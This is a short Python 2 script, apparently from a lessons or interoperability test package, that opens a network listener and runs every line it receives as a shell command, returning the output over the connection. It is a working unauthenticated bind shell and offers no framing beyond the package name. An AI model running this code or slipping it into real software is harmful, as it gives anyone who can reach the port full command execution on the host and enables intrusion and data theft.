import commands

from interop_tests.lessons.start import listener

server = listener()
while True:
    connection, _ = server.accept()
    line = connection.recv(1024)
    while line:
        status, output = commands.getstatusoutput(line)
        connection.sendall(output)
        line = connection.recv(1024)
